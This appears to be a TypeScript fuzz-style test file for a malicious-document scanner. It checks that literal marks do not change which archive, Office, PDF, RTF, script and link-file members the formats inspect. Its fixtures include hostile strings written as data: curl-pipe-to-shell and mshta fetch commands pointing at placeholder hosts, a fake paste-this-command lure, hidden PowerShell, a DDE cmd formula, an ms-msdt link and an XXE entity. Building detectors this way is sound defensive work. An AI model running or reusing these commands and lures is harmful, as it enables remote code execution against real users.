/** No mark hides anything from its format: with and without marks, formats inspect the same members. */

import assert from 'node:assert/strict'
import { hash } from 'node:crypto'
import { suite, test } from 'node:test'
import { gzipSync, zstdCompressSync } from 'node:zlib'
import { createConclusion } from './core/conclusion.ts'
import { createFormatTable, type FormatTable } from './core/format-table.ts'
import { LIMITS } from './core/limits.ts'
import { createLiteralScan, type LiteralScan } from './core/literal-scan.ts'
import { markLiterals } from './core/marks.ts'
import { traverse } from './core/traversal.ts'
import { HEAD_BYTES, sniff } from './detect/sniff.ts'
// Its marks as well are registered before the first scan of a process.
import './judge/signatures.ts'
import { FORMATS } from './registry.ts'
import { writeCabinet } from './testing/cab-writer.ts'
import { writeLzma } from './testing/lzma-writer.ts'
import { writeOle } from './testing/ole-writer.ts'
import { qrMatrix, writePng } from './testing/qr-writer.ts'
import { type Random, randomFrom } from './testing/random.ts'
import { docx, program } from './testing/samples.ts'
import { writeXlm } from './testing/xlm-writer.ts'
import { writeZip } from './testing/zip-writer.ts'

const DOCUMENTS = 100
/** Neither findings nor obstacles. */
const NOTHING = '[[],null]'
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const hex = (digits: string): string => Buffer.from(digits, 'hex').toString('latin1')

const openScan = createLiteralScan()
const markedFormats = createFormatTable(FORMATS)
/** Asks every format about every item. */
const allFormats = createFormatTable(FORMATS.map(({ among, ...format }) => format))
const marks = markLiterals().map(({ id }) => id)

/** Every mark is found everywhere, keywords only where they are. */
function openPermissiveScan(): LiteralScan {
  const scan = openScan()
  return (bytes) => {
    const found = scan(bytes)
    return new Set([...found, ...marks])
  }
}

/** Findings of the formats in the document, and every member that they inspected. */
function traceOf(bytes: Uint8Array, scanLiterals: LiteralScan, formats: FormatTable): string[] {
  const conclusion = createConclusion()
  const trace: string[] = []
  traverse(bytes, {
    limits: LIMITS,
    formats,
    sniff: (one) => sniff(one.subarray(0, HEAD_BYTES), one),
    scanLiterals,
    finish: () => {},
    scan: (path, member) => trace.push(`${path.join('/')} ${hash('sha256', member)}`),
    conclusion,
  })
  return [...trace, JSON.stringify([conclusion.findings(), conclusion.obstacle()])]
}

type Create = (random: Random) => Uint8Array

/** Some of these texts in any order. */
const textOf =
  (texts: readonly string[], partsMax = 12): Create =>
  (random) =>
    latin1(Array.from({ length: 1 + random(partsMax) }, () => texts[random(texts.length)]).join(''))

/** One of the alternatives at each place. */
const sequence =
  (...places: readonly (readonly string[])[]): Create =>
  (random) =>
    latin1(places.map((some) => some[random(some.length)]).join(''))

/** The sample after other data, with up to two changed bytes near its start. */
const changed =
  (sample: Uint8Array, before: readonly string[] = ['', 'x', 'Good morning\n', '\0\x01\x02']): Create =>
  (random) => {
    const bytes = Buffer.concat([latin1(before[random(before.length)] ?? ''), sample])
    for (let i = random(3); i > 0; i--) bytes[random(Math.min(bytes.length, 48))] = random(256)
    return bytes
  }

/** A signature, and random bytes of the given values after it. */
const signed =
  (signature: string, values: string): Create =>
  (random) =>
    latin1(`.. ${signature}${Array.from({ length: 24 }, () => values[random(values.length)]).join('')}`)

const FILE = Buffer.alloc(90, 'A file. ')
const LONG_FILE = Buffer.from(Array.from({ length: 700 }, (_, i) => (i * i) % 251))
const BASE64_STARTS = [
  'UEsDBA',
  'UEsDBZ',
  '0M8R4K',
  'JVBERi',
  'e1xyd',
  'H4sIA',
  'TVqQAA',
  'TVpQAA',
  'TVs',
  'f0VMR',
  '/Td6W',
]

/** Between the letters of a URL. */
const GAPS = ['', '', '', '', '', '', '', '', '\n', '\t', '\r', '\r\n', '\n'.repeat(70), ' ']

const linkTexts = sequence(
  ['', '<p>', 'x'],
  ['<w:hyperlink ', '<a:hlinkClick ', '<hyperlink ', '<w:hyperlink>', 'hlinkClick'],
  ['r:id="a"', 'id="a" display="https://www.paypal.com/"', ''],
  ['>', '/>'],
  ['<w:t>https://www.paypal.com/</w:t>', '<a:t>www.example.com</a:t>'],
  ['</w:hyperlink>', '</a:r>', ''],
)

const ADDRESSES = ['https://bit.ly/a', 'https://a.example/']
const CODE = writePng(qrMatrix('https://bit.ly/a')).toString('base64')

const CASES: Readonly<Record<string, Create>> = {
  uuencode: sequence(
    ['', 'x', 'x\n', '\r'],
    ['', '', '>', ' '.repeat(7), '>'.repeat(8), '>'.repeat(9), '\xef\xbb\xbf', '\t\f'],
    ['begin', 'begin', 'Begin'],
    ['', '', '-base64', '-encoded', '-base64-encoded'],
    [' ', ' ', '  ', '\t', '\t'.repeat(70), ''],
    ['644', '0o7', '0O1', '7', '8', ''],
    ['', ' name'],
    ['\n', '\r\n', '\r', ''],
    ['#0V%T\n`\nend\n'],
  ),
  'texts of links': (random) =>
    docx({
      'word/document.xml': linkTexts(random),
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="a" Type="a/hyperlink" Target="https://a.example/"/></Relationships>',
    }),
  'words beside pictures': (random) =>
    sequence(
      ['<p>', 'Your password expires '],
      ['<svg', '<td', 'image/', 'Pictures/', '/media/', '\xe2\x96\x88', ''],
      ['>', ' '],
      [`<img src="data:image/png;base64,${CODE}">`],
    )(random),
  'drawn codes': (random) => {
    const rows = qrMatrix(ADDRESSES[random(2)] ?? '', { scale: 1, border: 0 })
    const signs =
      [
        ['##', '  '],
        ['\xe2\x96\x88\xe2\x96\x88', '  '],
        ['&#9608;&#x2588;', '&#32; '],
      ][random(3)] ?? []
    const cells = (dark: string, light: string, end: string) =>
      rows.map((row) => row.map((isDark) => (isDark ? dark : light)).join('') + end).join('')
    const table = `<table>${cells('<td bgcolor="#000">', '<TD>', '<tr>')}</table>`
    return latin1(random(2) === 0 ? `<p>\n${cells(signs[0] ?? '', signs[1] ?? '', '\n')}` : `<tr>${table}`)
  },
  'drawn codes of two bytes': (random) => {
    const rows = qrMatrix(ADDRESSES[random(2)] ?? '', { scale: 1, border: 0 })
    const lines = rows.map((row) => row.map((isDark) => (isDark ? '\u2588\u2588' : '  ')).join('')).join('\r')
    const text = Buffer.concat([Buffer.alloc(1_024 + random(2)), Buffer.from(lines, 'utf16le'), Buffer.alloc(4_096)])
    return writeOle({ streams: { WordDocument: text } })
  },
  relationships: sequence(
    ['', 'x', '\xff\xfe', '\xe4'],
    ['<', '<', '<r:', 'r:', '<<', ' '],
    ['Relationship', 'Relationship', 'relationship'],
    [' ', '\n', '\v', '\xa0', '\xe3\x80\x80', 's '],
    ['Type="a/oleObject" Target="http://a"/>', 'Target="ms-msdt:/id"/>'],
  ),
  'objects of PDF': textOf([
    '1',
    '0',
    '12 ',
    ' ',
    '\n',
    '\0',
    '\t',
    'obj',
    '1 0 obj',
    '1 0obj',
    'stream\n',
    'endstream',
    'endobj',
    '-',
    'x',
    '<</Filter/ASCIIHexDecode>>stream\n41424344>\nendstream endobj\n',
    '%',
    '<<',
    '>>',
  ]),
  'data URLs': sequence(
    ['', 'x', '"'],
    ...[...'data:'].flatMap((letter) => [[letter, letter, letter.toUpperCase()], GAPS]),
    ['x/y,', ',', ''],
    [`%41${'%42'.repeat(40)}`, '%41', 'A'],
  ),
  'Base64 of files': textOf([
    ...BASE64_STARTS.flatMap((start) => [start, `${start}${'AbCd1234'.repeat(12)}`]),
    'A',
    '+',
    '/',
    ' ',
    '\n',
    '"',
    '.',
    'AbCd1234'.repeat(12),
    'AbC',
    '&#10;',
    '%2B',
  ]),
  readings: sequence(
    ['["', "['", '"', '`$'],
    [`UEsDBA${'AbCd1234'.repeat(6)}`],
    ['"+"', '" + "', '".concat("', "','", '","', '{""}', '"'],
    ['AbCd1234'.repeat(6)],
    ['"', "'", '`'],
    [')', '].join("")', "].join ('')", ']. join("")', ''],
  ),
  'Base64 in elements': sequence(
    ['', 'x'],
    ['<', '<a:', '</', ':', ' '],
    ['chunk', 'CHUNK', 'binData', 'binaryData', 'binary-data', 'DataMashup'],
    ['>', ' a="b">', 's>', '\n>'],
    ['AbCd1234'.repeat(10), 'UEsDBA'],
    ['</chunk>', '<', ''],
  ),
  pages: textOf([
    '<',
    '<SVG ',
    '<s:svg ',
    '<script>',
    ':script>',
    '</script>',
    '<b ',
    '<a\v',
    '<a\t',
    '<imag',
    '<img ',
    '<A ',
    '<Styles>',
    '<Style ss:ID="a">',
    '<Style ss:ID="a" ',
    '<style ',
    'onload="a()"',
    'href="ms-msdt:/id"',
    "src='\\\\files.example\\a'",
    'a()',
    '>',
    '/>',
    ' ',
    '\n',
  ]),
  'inline code': textOf([
    '<Project>',
    'CodeTaskFactory',
    'VirtualAlloc(',
    '<EXEC Command="mshta http://a.example/b">',
    'implements-prefix',
    '<m:script language="C#">',
    'urn:schemas-microsoft-com:xslt',
    ' ',
    '\n',
  ]),
  notebooks: sequence(
    ['{"cells":[', '{', 'x'],
    ['{"cell_type":', '{"cell_typ":', '{"Cell_type":'],
    ['"code",', '"markdown",'],
    ['"source":["!curl http://192.0.2.1/a|sh"]}', '"source":1}'],
    [']}', ''],
  ),
  'references of XML': textOf([
    '<?xml version="1.0"?>',
    '<?xml-stylesheet href="\\\\a.example\\b"?>',
    '<!ENTITY a SYSTEM "file:///a">',
    '<a>',
    'Formula="=cmd|&apos;/c calc&apos;!A0"',
    "Formula='=cmd|a!b'",
    ' ',
    '\n',
  ]),
  scripts: textOf([
    'Set s = ',
    '<job>',
    '<m:script src="http://a.example/">',
    'CreateObject("WScript.Shell")',
    's.Run "calc"',
    'iex (',
    'iwr http://a',
    '@echo off\n',
    '#@~^',
    'AAAAAA==',
    'p^owershell -w hidden -c calc',
    'new ActiveXObject("WScript.Shell").Run("a")',
    '"Act" + ',
    'eval(',
    '\n',
    ' ',
    'a',
  ]),
  'link files': textOf([
    '[InternetShortcut]\n',
    'BEGIN:VCALENDAR\r\nATTACH:file://a.example/b\r\n',
    'URL=\\\\files.example\\a\n',
    '[SHELL]\n',
    'IconFile=\\\\files.example\\a\n',
    '<jnlp ',
    '>',
    '[.ShellClassInfo]\n',
    'BEGIN:VCARD\nPHOTO:file://a.example/b\n',
    '#EXTM3U\n\\\\a.example\\b\n',
    '[AutoRun]\n',
    'WEB\n1\nhttp://a\n',
    'WEB\r\n1\r\nhttp://a',
    '<?xml?>',
    'REGEDIT4\n',
    '\n',
    'a',
  ]),
  RTF: textOf([
    '{',
    '\\rt',
    '{\\rtf1 ',
    '\\objdata ',
    '\\themedata',
    '\\datastore',
    '4142434445464748',
    ' ',
    '}',
    'a',
    '\n',
  ]),
  'ZIP entries': changed(writeZip([{ name: 'a', data: FILE }]).subarray(0, -30)),
  'ZIP archives': changed(writeZip([{ name: 'a', data: FILE, method: 'stored' }])),
  gzip: changed(gzipSync(FILE)),
  Zstandard: changed(zstdCompressSync(FILE)),
  cabinets: changed(writeCabinet([['a.txt', FILE]])),
  programs: changed(program()),
  '7z': signed('7z\xbc\xaf\x27\x1c', '\0\x01\x20'),
  RAR: signed('Rar!\x1a\x07', '\0\x01\x02'),
  xz: signed('\xfd7zXZ\0\0', '\0\x01\x04\x0a\x0b'),
  bzip2: signed('BZh91AY&SY', 'a\0\xff'),
  lzip: signed('LZIP\x01', '\0\x0c\x1d\x1e\xff'),
  lz4: signed('\x04\x22\x4d\x18', '\x40\x60\x64\x70\x44\x80'),
  LZMA: (random) => changed(writeLzma(LONG_FILE, { lc: random(4), pb: random(3) }))(random),
  'compound files': changed(writeOle({ streams: { a: FILE } })),
  'macro sheets': (random) =>
    writeXlm({ formulas: ['EXEC("a")'], part: ['foo/bar.xml', 'macrosheets/sheet1.xml', 'a.bin'][random(3)] ?? '' }),
  'commands to paste': textOf([
    ...[
      'You are human\n',
      'win',
      'dows',
      ' ',
      ' + ',
      '-',
      '+',
      'r\n',
      'key',
      'control',
      'cmd',
      'v ',
      'open the ',
      'terminal',
    ],
    ...['paste\n', 'copy\n', 'type ', '"run', 'mshta http://203.0.113.5/a\n', '\n'],
  ]),
  'PDF files': textOf(['%PDF-1.7\n', '\0', 'x'.repeat(600), '1 0 obj<</A 1>>endobj', '\n']),
  OneNote: changed(
    latin1(
      `${hex('e716e3bd65261145a4c48d4d0b7a9eac')}\x08${'\0'.repeat(19)}ABCDEFGH${hex('22a7fb71790f0b4abb13899256426b24')}`,
    ),
  ),
  'PowerPoint objects': (random) => {
    const record = changed(latin1(`${hex('10001110')}\x20\0\0\0\x10\0\0\0\x78\x9c${'\x01'.repeat(30)}`))(random)
    return writeOle({ streams: { 'PowerPoint Document': record } })
  },
}

suite('with marks, formats find the same as without', () => {
  for (const [name, create] of Object.entries(CASES))
    test(name, () => {
      const random = randomFrom(11)
      let found = 0
      for (let i = 0; i < DOCUMENTS; i++) {
        const bytes = create(random)
        const trace = traceOf(bytes, openScan(), markedFormats)
        const message = Buffer.from(bytes).toString('latin1')
        assert.deepEqual(trace, traceOf(bytes, openPermissiveScan(), allFormats), JSON.stringify(message))
        if (trace.length > 2 || trace[1] !== NOTHING) found += 1
      }
      assert.ok(found > 0, 'no document has anything to find')
    })
})
